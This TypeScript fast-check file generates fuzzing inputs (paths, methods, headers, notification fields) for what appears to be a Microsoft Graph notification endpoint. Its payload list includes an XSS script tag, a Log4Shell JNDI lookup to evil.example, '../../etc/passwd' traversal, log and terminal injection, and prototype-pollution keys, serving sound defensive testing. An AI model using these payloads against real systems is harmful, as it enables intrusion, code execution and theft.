import * as fc from 'fast-check';
import { clientState, OTHER_TENANT_ID, TENANT_ID, USER_ID } from './desk.ts';

/** What breaks out of lines, terminals, pages, quotes and objects. */
const nasty = fc.constantFrom(
  '\r\n{"level":"info","msg":"planted"}',
  '\u001b[2J\u001b[31m',
  '\u0000',
  '\u2028',
  '\u202e',
  '<script>alert(1)</script>',
  '"\'}]',
  '${jndi:ldap://evil.example/x}',
  '%s%n',
  '../../etc/passwd',
  '__proto__',
  'constructor',
);
export const text = fc.oneof(nasty, fc.string({ unit: 'binary', maxLength: 60 }));
export const anything = fc.oneof(fc.jsonValue(), text);

const part = fc.oneof(
  nasty,
  fc.constantFrom(
    '//',
    '..',
    '%2e%2e',
    '%2F',
    '%00',
    '%ff',
    ';',
    'notifications',
    'lifecycle',
    'figures',
    'assets',
    'jobs',
    '__proto__',
  ),
  fc.constantFrom('http://', 'evil.example', '[', ']', '[::1]', ':99999', '@', '*', '?', '#', '\\'),
  fc.string({ maxLength: 20 }),
);
/** Of a request: paths, addresses and what is none. */
export const target = fc
  .tuple(fc.constantFrom('/', '', 'http://'), fc.array(part, { maxLength: 5 }))
  .map(([start, parts]) => `${start}${parts.join('')}`.replaceAll(/\s/g, '').replaceAll('\0', ''));
export const method = fc.constantFrom(
  'POST',
  'GET',
  'PUT',
  'DELETE',
  'OPTIONS',
  'TRACE',
  'CONNECT',
  'PROPFIND',
  'X',
);

const name = fc.stringMatching(/^[!#$%&'*+.^_`|~0-9A-Za-z-]{1,20}$/);
const known = fc.constantFrom(
  'content-type',
  'content-encoding',
  'transfer-encoding',
  'content-length',
  'expect',
  'host',
  'upgrade',
  'connection',
  'x-http-method-override',
  'x-forwarded-host',
  'x-original-url',
);
export const headers = fc.dictionary(
  fc.oneof(known, name),
  fc.oneof(fc.string(), nasty, fc.constantFrom('chunked', 'gzip', '5', 'application/json', '/figures')),
);

const id = fc.oneof(
  fc.uuid(),
  fc.uuid().map((id) => id.toUpperCase()),
  text,
);
const resource = fc.oneof(
  anything,
  fc
    .tuple(
      fc.constantFrom('', '/'),
      fc.constantFrom('Users', 'users', 'Groups', 'Contacts', 'Devices'),
      id,
      fc.oneof(fc.constant(''), text),
    )
    .map(([slash, word, id, rest]) => `${slash}${word}/${id}${rest}`),
);
/** Of an item, all but its secret otherwise than Graph would have them. */
export const fields = fc.record(
  {
    resource,
    resourceData: fc.oneof(anything, fc.record({ id: fc.oneof(id, anything) })),
    tenantId: fc.oneof(fc.constantFrom(TENANT_ID, OTHER_TENANT_ID), anything),
    subscriptionId: fc.oneof(id, anything),
    changeType: anything,
    lifecycleEvent: fc.oneof(fc.constantFrom('missed', 'subscriptionRemoved', 'renamed'), anything),
    clientState: fc.constantFrom(
      clientState(),
      clientState({ resource: 'groups' }),
      clientState({ resource: 'contacts', mailbox: USER_ID }),
      clientState({ tenantId: OTHER_TENANT_ID }),
    ),
    ['__proto__']: anything,
    constructor: anything,
  },
  { requiredKeys: [] },
);
